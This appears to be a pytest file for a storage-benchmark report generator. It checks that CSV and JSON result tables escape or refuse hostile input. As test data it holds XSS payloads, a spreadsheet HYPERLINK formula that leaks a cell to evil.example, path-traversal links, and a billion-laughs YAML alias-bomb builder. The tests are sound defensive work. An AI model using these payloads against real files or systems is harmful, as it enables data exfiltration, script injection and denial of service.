"""A results tree travels between people: what it holds is data, never markup, a formula or a
resource bomb in the tables reportgen writes (issue 39). Each case is a hostile tree that the
tables once carried through unchanged, or a YAML alias nest that expanded into every cell."""

from __future__ import annotations

import csv
import io
import json
import pickle
from pathlib import Path

import pytest
import yaml

from conftest import REALDATA
from mlpstorage_py.report import reportgen, table
from mlpstorage_py.results.tree import fast_yaml, files
from mlpstorage_py.results.tree.package import Package

RUN = "training/unet3d/run/20260101_000000"
POINTER = "md5-tree-v2:" + "0123456789abcdef" * 2
SCRIPT = "<img src=x onerror=alert(1)>"
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def tree(root: Path, system_yaml: str | None, system: str = "sys1", pointer: str | None = None) -> Path:
    """A package of one training result of `system` under closed/Acme, described by `system_yaml`."""
    leaf = root / "closed" / "Acme" / "results" / system / RUN
    leaf.mkdir(parents=True)
    (leaf / "summary.json").write_text(json.dumps({"metric": {"train_io_mean_MB_per_second": 1024.0},
                                                   "num_accelerators": 8, "num_hosts": 1}))
    if pointer is not None:
        (leaf / ".mlps-code-image").write_text(pointer)
    if system_yaml is not None:
        (root / "closed" / "Acme" / "systems").mkdir(parents=True)
        (root / "closed" / "Acme" / "systems" / f"{system}.yaml").write_text(system_yaml)
    return root


def csv_row(root: Path) -> dict[str, str]:
    """The one row of Acme's results.csv, after reportgen."""
    reportgen.generate(root)
    rows = list(csv.DictReader(io.StringIO((root / "closed/Acme/results/results.csv").read_text())))
    assert len(rows) == 1
    return rows[0]


def description(**solution: object) -> str:
    return yaml.safe_dump({"system_under_test": {"solution": solution}})


def bomb(levels: int, width: int = 9) -> str:
    """The billion-laughs nest: each level an anchored list of `width` aliases of the one below."""
    lines = ['l0: &l0 "lol"']
    lines += [f"l{i}: &l{i} [{', '.join([f'*l{i - 1}'] * width)}]" for i in range(1, levels + 1)]
    solution = {"submission_name": f"*l{levels}", "friendly_description": f"*l{levels}", "availability": f"*l{levels}"}
    body = "".join(f"    {key}: {value}\n" for key, value in solution.items())
    return "\n".join(lines) + "\nsystem_under_test:\n  solution:\n" + body


# --- markup and formulas ----------------------------------------------------------------------

def test_a_mapping_with_an_href_is_no_link(tmp_path):
    root = tree(tmp_path, description(submission_name={"href": "javascript:alert(1)", "text": "Acme"},
                                      friendly_description=SCRIPT, availability=FORMULA))
    row = csv_row(root)
    text = (root / "closed/Acme/results/results.csv").read_text()
    assert "javascript:" not in text and "<img" not in text
    assert row["Name"] == "sys1"  # not a scalar: the system's own name
    assert row["Description"] == "&lt;img src=x onerror=alert(1)&gt;"
    assert row["Availability"].startswith("'=") and "&quot;" in row["Availability"]
    data = json.loads((root / "closed/Acme/results/results.json").read_text())["rows"][0]
    assert data["Name"] == "sys1" and data["Availability"] == FORMULA  # JSON keeps the data as data


def test_only_scalars_become_system_cells(tmp_path):
    root = tree(tmp_path, "system_under_test:\n  solution:\n    submission_name: [a, b]\n"
                          "    friendly_description: {x: 1}\n    availability: 2026-07-01\n")
    row = csv_row(root)
    assert (row["Name"], row["Description"], row["Availability"]) == ("sys1", "", "2026-07-01")


@pytest.mark.parametrize("pointer, cell", [
    (SCRIPT, "malformed"),
    (f"{POINTER}<script>alert(1)</script>", "malformed"),
    (f"{POINTER}\n", POINTER),  # no such image in the package: no link (tests/test_tables_published.py)
    ("", "unknown"),
])
def test_the_code_cell_is_a_pointer_or_says_malformed(tmp_path, pointer, cell):
    assert csv_row(tree(tmp_path, description(submission_name="Acme"), pointer=pointer))["Training - Code"] == cell


def test_directory_names_are_escaped_in_links(tmp_path):
    system = 'sys"><img src=x onerror=alert(1)>'
    row = csv_row(tree(tmp_path, None, system=system))
    escaped = "sys&quot;&gt;&lt;img src=x onerror=alert(1)&gt;"
    assert row["Training - Logs"] == f'<a href="closed/Acme/results/{escaped}/training/unet3d">{escaped}</a>'
    assert row["Name"] == escaped


@pytest.mark.parametrize("href", ["javascript:alert(1)", "JavaScript:alert(1)", "data:text/html,<b>x</b>",
                                  "/etc/passwd", "//evil.example/x", "closed/../../x", "a\\b", "a\nb", "a//b", ""])
def test_a_link_leads_only_inside_the_package(href):
    assert table.link("text", href) == "text"


def test_a_link_is_text_and_href_in_json_and_survives_a_worker():
    made = table.link("sys1", "closed/Acme/results/sys1/training/unet3d")
    assert isinstance(made, table.Link)
    assert json.dumps(made) == '{"text": "sys1", "href": "closed/Acme/results/sys1/training/unet3d"}'
    assert isinstance(pickle.loads(pickle.dumps(made)), table.Link)


def test_formula_starts_are_neutralised_in_string_cells_only():
    """A leading = + - @ TAB CR gets an apostrophe; a CR is written &#13; so a reader keeps the row whole."""
    starts = {"Organization": "=1+1", "Name": "+1", "Description": "-1", "Availability": "@SUM(A1)",
              "Model": "\tx", "Comparability Class": "\rx\ry"}
    rows = [{**starts, "RU's": -2, "Usable Capacity (TiB)": -1.5, "Issues": ["=bad", "fine"]}]
    got = next(csv.DictReader(io.StringIO(table.to_csv(rows))))
    assert {k: got[k] for k in starts} == {k: "'" + v.replace("\r", "&#13;") for k, v in starts.items()}
    assert (got["RU's"], got["Usable Capacity (TiB)"], got["Issues"]) == ("-2", "-1.5", "'=bad; fine")


def test_a_column_named_by_the_tree_is_escaped():
    header = next(csv.reader(io.StringIO(table.to_csv([{"KVCache <b>m</b> Option 9 - Read B/W (GiB/s)": 1.0}]))))
    assert "KVCache &lt;b&gt;m&lt;/b&gt; Option 9 - Read B/W (GiB/s)" in header and "RU's" in header


# --- resource bombs ---------------------------------------------------------------------------

def test_an_alias_nest_is_unreadable_and_the_tables_stay_small(tmp_path):
    root = tree(tmp_path, bomb(4))  # 9^4 copies; the audit's 2 KB file of 8 levels wrote 624 MB
    row = csv_row(root)
    assert (row["Name"], row["Description"], row["Availability"]) == ("sys1", "", "")
    assert (root / "closed/Acme/results/results.csv").stat().st_size < 8192
    assert (root / "closed/Acme/results/results.json").stat().st_size < 16384
    _, problem, _ = Package.load(root).system_description("closed", "Acme", "sys1")
    assert "sys1.yaml is not valid YAML (anchors and aliases are refused" in problem


@pytest.mark.parametrize("text", ["a: &x 1\nb: *x\n", "a: &x 1\n", "{a: &x [1], b: *x}\n", "- &x a\n- *x\n",
                                  "a: !!str &x 1\n", "a: *undefined\n", "? &k a\n: 1\n"])
def test_package_yaml_refuses_anchors_and_aliases(text, tmp_path):
    with pytest.raises(fast_yaml.AliasRefused):
        fast_yaml.load(text, aliases=False)
    path = tmp_path / "x.yaml"
    path.write_text(text)
    files.start(tmp_path)
    data, problem = files.load_yaml(path)
    assert data is None and "anchors and aliases are refused" in problem
    assert "anchors and aliases are refused" in files.yaml_or_unreadable(path)[files.UNREADABLE]


def test_yaml_without_anchors_reads_as_before(tmp_path):
    text = "a: [1, {b: 2}]\nc: !!str 3\nd: '&x'\ne: '*y'\n"
    assert fast_yaml.load(text, aliases=False) == yaml.safe_load(text)
    with pytest.raises(yaml.YAMLError) as refused:
        fast_yaml.load("a: [1\n", aliases=False)
    assert not isinstance(refused.value, fast_yaml.AliasRefused)  # a broken text says what is broken


def test_an_oversized_system_description_leaves_blank_cells(tmp_path):
    big = description(submission_name="Acme", friendly_description="x" * (table.SYSTEM_YAML_LIMIT + 1))
    row = csv_row(tree(tmp_path, big))
    assert (row["Name"], row["Description"]) == ("sys1", "")
    assert (tmp_path / "closed/Acme/results/results.csv").stat().st_size < 8192


@pytest.mark.skipif(not REALDATA.is_dir(), reason="no published packages at ../shared/realdata")
def test_the_published_yaml_files_still_read():
    files.start(REALDATA)
    paths = [p for p in sorted(REALDATA.rglob("*.yaml")) if p.is_file() and not p.is_symlink()]
    assert paths and all(files.load_yaml(p)[1] is None for p in paths)
    assert all(p.stat().st_size <= table.SYSTEM_YAML_LIMIT for p in REALDATA.glob("*/*/systems/*.yaml"))
